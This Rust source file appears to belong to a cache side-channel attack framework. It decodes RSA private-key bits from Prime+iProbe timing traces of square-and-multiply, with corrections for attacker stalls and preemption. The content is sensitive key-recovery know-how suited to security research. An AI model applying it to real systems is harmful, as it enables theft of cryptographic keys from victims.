use serde::{Deserialize, Serialize};

use super::key::{DecodedKey, Symbol};
use crate::attacks::ActivitySample;
use crate::error::{Error, Result};

/// Sample-gap model of square-and-multiply under Prime+iProbe: two
/// multiplies `base_gap` samples apart are adjacent ones, and every extra
/// `zero_gap` samples is one more zero between them.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct RsaDecodeParams {
    pub base_gap: f64,
    pub zero_gap: f64,
    /// Pads trailing zeros up to this length.
    pub expected_bits: Option<usize>,
    /// Victim cycles lost per attacker SMC; removed from every gap.
    pub sibling_stall: u64,
    /// A sample interval longer than this many median intervals means the
    /// attacker was preempted; the bits of that gap decode as `X`.
    pub preempt_factor: f64,
}

impl Default for RsaDecodeParams {
    fn default() -> Self {
        RsaDecodeParams {
            base_gap: 3.0,
            zero_gap: 2.0,
            expected_bits: None,
            sibling_stall: 0,
            preempt_factor: 2.0,
        }
    }
}

impl RsaDecodeParams {
    pub fn validate(&self) -> Result<()> {
        if !(self.base_gap > 0.0 && self.zero_gap > 0.0) {
            return Err(Error::Config("gap parameters must be > 0".into()));
        }
        if !(self.preempt_factor > 1.0) {
            return Err(Error::Config("preempt_factor must be > 1".into()));
        }
        Ok(())
    }
}

/// Sample indices where an activity run begins.
pub fn activity_starts(samples: &[ActivitySample]) -> Vec<usize> {
    let mut prev = false;
    let mut starts = Vec::new();
    for (i, s) in samples.iter().enumerate() {
        if s.activity && !prev {
            starts.push(i);
        }
        prev = s.activity;
    }
    starts
}

/// Zeros between two multiplies `gap` sample periods apart (round half up).
pub fn zeros_for_gap(gap: f64, params: &RsaDecodeParams) -> usize {
    ((gap - params.base_gap) / params.zero_gap + 0.5).floor().max(0.0) as usize
}

/// Victim progress between samples `a` and `b`: elapsed clock minus the
/// stalls the attacker's SMC probes imposed on the victim.
fn progress(samples: &[ActivitySample], a: usize, b: usize, sibling_stall: u64) -> f64 {
    let stalls: u64 = samples[a..b].iter().map(|s| s.slow_hits as u64).sum();
    (samples[b].clock - samples[a].clock) as f64 - (stalls * sibling_stall) as f64
}

/// Median victim progress per sample.
pub fn sample_period(samples: &[ActivitySample], sibling_stall: u64) -> Option<f64> {
    let mut d: Vec<f64> = (1..samples.len()).map(|i| progress(samples, i - 1, i, sibling_stall)).collect();
    if d.is_empty() {
        return None;
    }
    d.sort_by(f64::total_cmp);
    Some(d[d.len() / 2])
}

/// Reads the exponent off the multiply activity in one trace. The first
/// multiply is the leading one bit. Gaps are measured in victim progress
/// over the median progress per sample, rounded to whole samples, so a
/// preempted sample does not shift the bits after it.
pub fn decode_rsa_trace(samples: &[ActivitySample], params: &RsaDecodeParams) -> DecodedKey {
    let starts = activity_starts(samples);
    let period = sample_period(samples, params.sibling_stall).unwrap_or(1.0).max(1.0);
    let limit = sample_period(samples, 0).unwrap_or(f64::INFINITY) * params.preempt_factor;
    let mut key = DecodedKey::default();
    for (n, &idx) in starts.iter().enumerate() {
        if n > 0 {
            let prev = starts[n - 1];
            let gap = (progress(samples, prev, idx, params.sibling_stall) / period).round();
            let preempted = (prev + 1..=idx).any(|i| (samples[i].clock - samples[i - 1].clock) as f64 > limit);
            let sym = if preempted { Symbol::Unknown } else { Symbol::Zero };
            key.symbols.extend(std::iter::repeat_n(sym, zeros_for_gap(gap, params)));
        }
        key.symbols.push(Symbol::One);
    }
    if let Some(len) = params.expected_bits {
        key.resize(len, Symbol::Zero);
    }
    key
}
